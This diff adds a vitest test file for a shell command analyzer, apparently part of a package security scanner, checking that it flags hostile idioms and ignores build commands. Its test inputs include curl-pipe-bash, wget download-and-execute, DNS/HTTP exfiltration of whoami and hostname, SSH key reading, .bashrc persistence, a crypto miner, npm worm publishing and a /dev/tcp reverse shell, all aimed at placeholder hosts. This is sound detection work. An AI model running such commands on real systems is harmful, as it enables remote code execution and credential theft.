@@ -1,0 +1,40 @@
+import { describe, expect, it } from 'vitest';
+import { analyzeCommand, inlineNodeCode, nodeScriptArguments } from '../../../src/analyzers/shell/command.js';
+
+const ids = (cmd: string) => analyzeCommand(cmd).map((t) => t.id);
+
+describe('shell command techniques', () => {
+  it('recognises download-and-run idioms', () => {
+    expect(ids('curl -fsSL https://x.invalid/a | bash')).toContain('download-pipe-shell');
+    expect(ids('wget -O /tmp/a http://192.0.2.1/a && chmod +x /tmp/a && /tmp/a')).toContain(
+      'download-execute',
+    );
+  });
+  it('recognises DNS/HTTP exfiltration of command output', () => {
+    expect(ids('nslookup `whoami`.x.invalid')).toContain('exfil-command-output');
+    expect(ids('curl https://x.invalid/$(hostname)')).toContain('exfil-command-output');
+  });
+  it('recognises credential access, secret tools, persistence, miners and worms', () => {
+    expect(ids('find ~/.ssh | xargs cat')).toContain('credential-access');
+    expect(ids('trufflehog filesystem / --json')).toContain('secret-tool');
+    expect(ids('echo "curl x|sh" >> ~/.bashrc')).toContain('persistence');
+    expect(ids('./xmrig -o stratum+tcp://pool.invalid:3333')).toContain('miner');
+    expect(ids('cd /tmp/pkg && npm publish --access public')).toContain('worm-publish');
+    expect(ids('shred -u ~/.bash_history')).toContain('destructive');
+  });
+  it('recognises reverse shells', () => {
+    expect(ids('bash -i >& /dev/tcp/192.0.2.1/4444 0>&1')).toContain('reverse-shell');
+  });
+  it('stays quiet on build commands', () => {
+    expect(analyzeCommand('node-gyp rebuild && tsc -p .')).toHaveLength(0);
+    expect(analyzeCommand('husky install')).toHaveLength(0);
+    expect(ids('rm -rf build dist')).not.toContain('destructive');
+  });
+  it('extracts inline node code and script arguments', () => {
+    expect(inlineNodeCode(`node -e "console.log(1)"`)).toBe('console.log(1)');
+    expect(inlineNodeCode('node install.js')).toBeUndefined();
+    expect(nodeScriptArguments('node ./scripts/setup.js --flag && node -e "x"')).toEqual([
+      './scripts/setup.js',
+    ]);
+  });
+});
